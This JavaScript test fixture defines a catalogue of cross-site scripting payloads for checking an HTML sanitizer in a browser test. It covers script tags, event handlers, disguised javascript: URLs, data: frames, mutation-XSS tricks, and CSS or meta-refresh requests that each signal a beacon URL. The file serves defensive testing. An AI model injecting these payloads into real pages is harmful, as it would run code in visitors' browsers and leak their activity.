// The hostile markup of the browser test: each payload, if it ever runs, reports itself by its
// name on every channel the test watches. Pure data; no browser or server here.
'use strict';

// What a payload's script does when it runs: a marker on the window, the page title, a console
// line, an image request to the beacon (allowed by our CSP's img-src, so it gets out even where
// fetch would not) and an alert. No spaces, no '"', no '>' and no '%', so the same text works
// inside a double-quoted or an unquoted attribute, a javascript: URL and a data: URL.
function Script(name, beacon) {
  return [
    `window.__pwned=(window.__pwned||[]).concat('${name}')`,
    `document.title='PWNED:${name}'`,
    `console.log('PWNED:${name}')`,
    `new(Image)().src='${beacon}/${name}'`,
    `alert('PWNED:${name}')`,
  ].join(';');
}

// Every payload: name (also its beacon path and marker), html, kind, runsRaw, action.
//   kind: 'script' runs code; 'request' makes the browser fetch the beacon without script (CSS,
//         <meta refresh>, <base>), which would leak the reader's visit and is as forbidden.
//   runsRaw: this Chromium runs it when the markup reaches the page unsanitized and without a
//         CSP; the positive control requires the harness to see each of these. The others (IE
//         and old-browser tricks) are in the feed all the same: the sanitizer must drop them too.
//   action: what a reader does for it to fire: 'click' / 'hover' the element with id=name.
function Payloads(beacon) {
  const js = (name) => Script(name, beacon);
  const list = [
    // Plain script, inline and from a data: URL.
    {name: 'script-inline', html: (n) => `<script>${js(n)}</script>`},
    {name: 'script-data-src', html: (n) => `<script src="data:text/javascript,${js(n)}"></script>`},
    // Event handlers that fire on their own.
    {name: 'img-onerror', html: (n) => `<img src="x-missing.png" alt="" onerror="${js(n)}">`},
    {name: 'svg-onload', html: (n) => `<svg onload="${js(n)}"><circle r="2"></circle></svg>`},
    {name: 'details-ontoggle', html: (n) =>
      `<details open ontoggle="${js(n)}"><summary>details</summary>inside</details>`},
    {name: 'video-source-onerror', html: (n) =>
      `<video><source src="x-missing.mp4" onerror="${js(n)}"></video>`},
    {name: 'audio-onerror', html: (n) => `<audio src="x-missing.mp3" onerror="${js(n)}"></audio>`},
    {name: 'body-onload', html: (n) => `<body onload="${js(n)}">`},
    {name: 'input-autofocus', html: (n) => `<input autofocus onfocus="${js(n)}">`},
    // Handlers a reader fires.
    {name: 'a-onclick', action: 'click', html: (n) =>
      `<a id="${n}" href="#x" onclick="${js(n)}">onclick link</a>`},
    {name: 'div-onmouseover', action: 'hover', html: (n) =>
      `<div id="${n}" onmouseover="${js(n)}">hover me</div>`},
    // javascript: URLs, plain and disguised, on links, forms and frames.
    {name: 'a-javascript', action: 'click', html: (n) =>
      `<a id="${n}" href="javascript:${js(n)}">javascript link</a>`},
    {name: 'a-javascript-entities', action: 'click', html: (n) =>
      `<a id="${n}" href="&#106;ava&#x53;cript&colon;${js(n)}">entity link</a>`},
    {name: 'a-javascript-tab', action: 'click', html: (n) =>
      `<a id="${n}" href=" java&#x09;script:${js(n)}">tab link</a>`},
    {name: 'form-action-javascript', action: 'click', html: (n) =>
      `<form action="javascript:${js(n)}"><button id="${n}" type="submit">submit</button></form>`},
    {name: 'button-formaction', action: 'click', html: (n) =>
      `<form><button id="${n}" formaction="javascript:${js(n)}">formaction</button></form>`},
    {name: 'iframe-javascript', html: (n) => `<iframe src="javascript:${js(n)}"></iframe>`},
    // Frames and plugins that carry their own document.
    {name: 'iframe-srcdoc', html: (n) => `<iframe srcdoc="<script>${js(n)}</script>"></iframe>`},
    {name: 'iframe-data', html: (n) =>
      `<iframe src="data:text/html,<script>${js(n)}</script>"></iframe>`},
    {name: 'object-data', html: (n) =>
      `<object data="data:text/html,<script>${js(n)}</script>"></object>`},
    {name: 'embed-data', html: (n) =>
      `<embed type="text/html" src="data:text/html,<script>${js(n)}</script>">`},
    // Markup that changes meaning between parsers (mutation XSS): comments, raw-text elements,
    // foreign content.
    {name: 'comment-breakout', html: (n) =>
      `<!--<img src="--><img src=x-missing onerror=${js(n)}>">`},
    {name: 'noscript-mxss', html: (n) =>
      `<noscript><p title="</noscript><img src=x-missing onerror=${js(n)}>"></p></noscript>`},
    {name: 'svg-style-mxss', html: (n) =>
      `<svg><style><img src=x-missing onerror=${js(n)}></style></svg>`},
    // Requests without script: CSS, refresh, base.
    {name: 'style-element', kind: 'request', html: (n) =>
      `<style>main{background-image:url(${beacon}/${n})}</style>`},
    {name: 'style-import', kind: 'request', html: (n) =>
      `<style>@import '${beacon}/${n}';</style>`},
    {name: 'style-attribute', kind: 'request', html: (n) =>
      `<p style="background-image:url(${beacon}/${n})">styled paragraph</p>`},
    {name: 'link-stylesheet', kind: 'request', html: (n) =>
      `<link rel="stylesheet" href="${beacon}/${n}">`},
    {name: 'meta-refresh', kind: 'request', html: (n) =>
      `<meta http-equiv="refresh" content="0;url=${beacon}/${n}">`},
    {name: 'base-href', kind: 'request', html: (n) =>
      `<base href="${beacon}/${n}/"><img src="relative.png" alt="">`},
    // Tricks this Chromium does not run even raw (IE-only CSS, blocked schemes, a mutation XSS
    // that needed an older parser); the sanitizer must still drop them.
    {name: 'style-expression', runsRaw: false, html: (n) =>
      `<p style="width:expression(${js(n)})">expression()</p>`},
    {name: 'style-url-javascript', runsRaw: false, html: (n) =>
      `<p style="background:url(javascript:${js(n)})">url(javascript:)</p>`},
    {name: 'meta-refresh-javascript', runsRaw: false, html: (n) =>
      `<meta http-equiv="refresh" content="0;url=javascript:${js(n)}">`},
    {name: 'img-src-javascript', runsRaw: false, html: (n) => `<img src="javascript:${js(n)}">`},
    {name: 'a-data-html', runsRaw: false, action: 'click', html: (n) =>
      `<a id="${n}" href="data:text/html,<script>${js(n)}</script>">data: link</a>`},
    {name: 'a-vbscript', runsRaw: false, action: 'click', html: (n) =>
      `<a id="${n}" href="vbscript:msgbox('PWNED:${n}')">vbscript link</a>`},
    {name: 'split-script-tag', runsRaw: false, html: (n) =>
      `<scr<script>x</script>ipt>${js(n)}</scr<script>x</script>ipt>`},
    {name: 'math-mglyph-mxss', runsRaw: false, html: (n) =>
      `<math><mtext><table><mglyph><style><img src=x-missing onerror=${js(n)}>` +
      `</style></mglyph></table></mtext></math>`},
    {name: 'xmp-raw-text', runsRaw: false, html: (n) =>
      `<xmp><img src=x-missing onerror=${js(n)}></xmp>`},
  ];
  return list.map((p) => ({
    name: p.name,
    html: p.html(p.name),
    kind: p.kind || 'script',
    runsRaw: p.runsRaw !== false,
    action: p.action || null,
  }));
}

module.exports = {Payloads, Script};
